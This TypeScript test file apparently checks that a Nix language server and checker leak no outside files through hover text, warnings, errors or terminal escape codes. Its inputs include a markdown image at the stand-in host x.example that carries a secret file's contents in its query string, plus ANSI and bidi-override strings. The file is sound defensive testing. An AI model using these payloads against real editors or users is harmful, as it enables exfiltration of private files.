/** What a foreign configuration must not bring out: files of the user, through what the editor loads or a command prints. */
import { rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { runCommand, scratchFolder } from "../support/commandLine.ts";
import { type LspClient, startClient } from "../support/lspClient.ts";

let base = "";
beforeAll(() => {
  base = scratchFolder({ "secret.txt": "SECRET", "ws/own.txt": "OWN" });
});
afterAll(() => rmSync(base, { recursive: true }));

const declared = (description: string): string => `{ lib, ... }:
{
  options.services.probe.enable = lib.mkOption {
    type = lib.types.bool;
    default = false;
    description = ${description};
  };
  config.services.probe.enable = true;
}
`;

/** What hover says of the option in a plain configuration with this description. */
async function hoverOn(description: string, trusted: boolean): Promise<string> {
  const path = join(base, "ws", "configuration.nix");
  const text = declared(description.replaceAll("BASE", base));
  writeFileSync(path, text);
  const uri = `file://${path}`;
  const client = await startClient({
    transport: "ipc",
    folders: [join(base, "ws")],
    initializationOptions: { trusted },
  });
  await client.open(uri, text);
  await client.until("an idle server", () => !client.busy);
  const offset = text.lastIndexOf("enable");
  const markdown = await hoverText(client, uri, offset);
  await client.stop();
  return markdown;
}

async function hoverText(client: LspClient, uri: string, offset: number): Promise<string> {
  const position = client.position(uri, offset);
  const answer = await client.request<{ contents: { value: string } } | null>("textDocument/hover", {
    textDocument: { uri },
    position,
  });
  return answer?.contents.value ?? "";
}

test("hover in an untrusted workspace shows nothing of a file outside it, and no image at all", async () => {
  const outside = await hoverOn('"![](https://x.example/i.png?q=${builtins.readFile BASE/secret.txt})"', false);
  expect(outside).toContain("services.probe.enable");
  expect(outside).not.toContain("SECRET");
  expect(outside).not.toContain("x.example");
  const inside = await hoverOn('"before ![](https://x.example/i.png?q=${builtins.readFile ./own.txt}) after"', false);
  expect(inside).toContain("before (image) after");
  expect(inside).not.toContain("OWN");
});

test("in a trusted workspace the text is shown, the image is not", async () => {
  const shown = await hoverOn('"text ${builtins.readFile BASE/secret.txt} ![a](https://x.example/i.png)"', true);
  expect(shown).toContain("text SECRET (image: a)");
  expect(shown).not.toContain("x.example");
});

const flake = (module: string): string => `{
  outputs = { nixpkgs, ... }: {
    nixosConfigurations.h = nixpkgs.lib.nixosSystem { modules = [ (${module}) ]; };
  };
}
`;

test.each([
  ["a value of another type", "networking.firewall.enable = READ;"],
  ["an assertion", "assertions = [ { assertion = false; message = READ; } ];"],
  ["a warning", "warnings = [ (READ) ];"],
  ["a throw", "networking.hostName = throw (READ);"],
])("check prints nothing of a file outside the flake: %s", (_, definition) => {
  for (const [place, isRead] of [
    [join(base, "secret.txt"), false],
    [join(base, "ws", "own.txt"), true],
  ] as const) {
    const module = `{ ${definition.replace("READ", `builtins.readFile "${place}"`)} }`;
    writeFileSync(join(base, "ws", "flake.nix"), flake(module));
    rmSync(join(base, "ws", "configuration.nix"), { force: true });
    const { stdout, stderr } = runCommand(["check", "--stats"], join(base, "ws"));
    expect(stdout + stderr).not.toContain("SECRET");
    if (isRead) expect(stdout).toContain("OWN");
  }
});

test("what terminals obey, and what hides, is not printed", () => {
  const message = '"a${builtins.fromJSON (builtins.readFile ./odd.json)}"';
  writeFileSync(join(base, "ws", "odd.json"), '"\\u001b[31mb\\u202ec"');
  writeFileSync(join(base, "ws", "flake.nix"), flake(`{ warnings = [ ${message} ]; }`));
  for (const format of ["pretty", "json", "sarif", "github"]) {
    const { stdout } = runCommand(["check", "--format", format], join(base, "ws"));
    expect(stdout).toContain("ab<U+202E>c");
    for (const hidden of ["\u001b", "\\u001b", "\u202e"]) expect(stdout).not.toContain(hidden);
  }
});
